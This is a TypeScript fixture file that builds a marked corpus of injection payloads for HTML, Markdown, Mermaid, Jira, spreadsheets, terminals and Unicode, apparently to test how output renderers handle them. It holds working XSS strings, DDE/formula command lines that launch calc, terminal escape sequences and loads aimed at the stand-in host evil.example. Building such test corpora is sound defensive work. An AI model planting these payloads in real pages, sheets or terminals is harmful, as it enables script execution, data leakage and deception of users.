/**
 * Texts that act where they are not taken for texts: in terminals, browsers, Markdown and wiki renderers, spreadsheets, and those who read
 * them. Each family attacks one reader; each of its texts stands in each of five surroundings. `§` is a word of its own in every payload, by
 * which it is found again in the outputs.
 */
interface Family {
  name: string;
  texts: readonly string[];
}

const FAMILIES: readonly Family[] = [
  {
    name: "tags of HTML",
    texts: [
      "<script>alert('§')</script>",
      "<img src=x onerror=alert('§')>",
      "<svg/onload=alert('§')>",
      "<iframe srcdoc=\"<script>parent.alert('§')</script>\"></iframe>",
      '"><a href="javascript:alert(1)" onmouseover="alert(2)">§</a>',
      "<form action=//evil.example/§><button autofocus onfocus=alert(1)>",
      '<meta http-equiv=refresh content="0;url=https://evil.example/§">',
      "<base href=https://evil.example/§/>",
      "<link rel=stylesheet href=//evil.example/§.css>",
      "<style>@import '//evil.example/§';*{display:none}</style>",
    ],
  },
  {
    name: "ways out of what a page puts around texts",
    texts: [
      "</script><script>alert('§')</script>",
      "--><script>alert('§')</script><!--",
      "]]><script>alert('§')</script>",
      "</style></title></textarea></noscript><img src=x onerror=alert('§')>",
      "</summary></details></template><script>alert('§')</script>",
      "<!--<script>§",
      "&lt;script&gt;§ &#60;b&#x3e; &amp;lt; &notin;",
      "'-alert('§')-' \";alert(1)//",
    ],
  },
  {
    name: "links and images of Markdown",
    texts: [
      "[§](javascript:alert(1))",
      "![§](https://evil.example/pixel.png)",
      "<https://evil.example/§>",
      "[§]: https://evil.example 'a title'",
      "https://evil.example/§ www.evil.example ftp://evil.example mailto:§@evil.example",
      "[§](data:text/html;base64,PHNjcmlwdD4=)",
      "[^§] [[§]] [x][§] ![[§]]",
    ],
  },
  {
    name: "mentions, references and commands of trackers",
    texts: [
      "@everyone @org/team-§ §@evil.example",
      "#1 GH-1 owner/repo#1 !1 %1 ~bug &1 $1 OPS-1 §",
      "\n/close §\n/assign @me\n",
      ":rocket: :§: deadbeefcafe0123456789 $`§`$",
    ],
  },
  {
    name: "blocks of Markdown",
    texts: [
      "```\n§\n```\n# heading\n~~~~",
      "| a | b |\n|---|---|\n| § | \\| |",
      "\n# §\n\n- [ ] item\n1. one\n> quoted\n---\n",
      "**§** __§__ ~~§~~ ``§`` \\*",
      "<details><summary>§</summary>",
      "---\ntitle: §\n---\n[[_TOC_]]",
    ],
  },
  {
    name: "Mermaid",
    texts: [
      '```mermaid\ngraph TD; A-->B["§"]; click A "javascript:alert(1)"\n```',
      'section § :crit, 2026-01-01, 1d\n  click § href "https://evil.example"',
      '%%{init: {"securityLevel": "loose", "theme": "§"}}%%',
    ],
  },
  {
    name: "Jira's macros",
    texts: [
      "{noformat}{html}<script>alert('§')</script>{html}{noformat}",
      "{code}§{code}{panel:title=§}{color:red}*x*{color}",
      "[~admin] [§|https://evil.example] !https://evil.example/§.png!",
      "||§||b||\n|c|d|\nh1. §\nbq. §\n----",
    ],
  },
  {
    name: "formulas",
    texts: [
      "=cmd|' /C calc'!§",
      '+HYPERLINK("https://evil.example/?"&A1,"§")',
      "-2+3+cmd|' /C calc'!§",
      "@SUM(1+1)*§",
      '\t=IMPORTXML("https://evil.example","//§")',
      '\r=DDE("cmd","/C calc","§")',
    ],
  },
  {
    name: "sequences of terminals",
    texts: [
      "\x1b[2J\x1b[1;1H\x1b[31m§",
      "\x1b]8;;https://evil.example/§\x07click\x1b]8;;\x07",
      "\x1b]52;c;§\x07\x1b]0;§\x07",
      "\x1bP+q§\x1b\\\x1b_§\x1b\\\x1b^§\x1b\\",
      "\x9b31m§\x9d0;§\x9c\x90§\x9c",
      "§\x08\x08\x08\x7f\x07\x0b\x0c\x0e\x0f\x1bc\x00",
    ],
  },
  {
    name: "texts that read otherwise than they are",
    texts: [
      "§\u202egnp.exe\u202c \u2067a\u2069 \u061c\u200f",
      "§\u200b\u200d\ufeff\u2060\u00ad\u180e\u3164\u{e0041}",
      "§\ud800 \udfff\ud83d",
      "§ Ze\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309 \ue000\ufffe",
      "§\u2028a\u2029b\x85c\r\nd",
      `§${"A".repeat(9000)}`,
    ],
  },
];

const SURROUNDINGS: readonly (readonly [string, (text: string) => string])[] = [
  ["alone", (text) => text],
  ["in a sentence", (text) => `host said ${text} and left`],
  ["in quotes", (text) => `name="${text}"`],
  ["behind a backtick", (text) => `\`${text}`],
  ["in brackets, and again on a line of its own", (text) => `(${text})\n${text}`],
];

export interface Payload {
  name: string;
  /** The word that stands in it and in no other. */
  mark: string;
  text: string;
}

export const payloads: readonly Payload[] = FAMILIES.flatMap(({ name, texts }) =>
  texts.flatMap((text) =>
    SURROUNDINGS.map(([where, around]) => ({
      name: `${name}, ${where}: ${JSON.stringify(text)}`,
      text: around(text),
    })),
  ),
).map(({ name, text }, i) => {
  const mark = `hx${String(i).padStart(3, "0")}z`;
  return { name, mark, text: text.replaceAll("§", mark) };
});
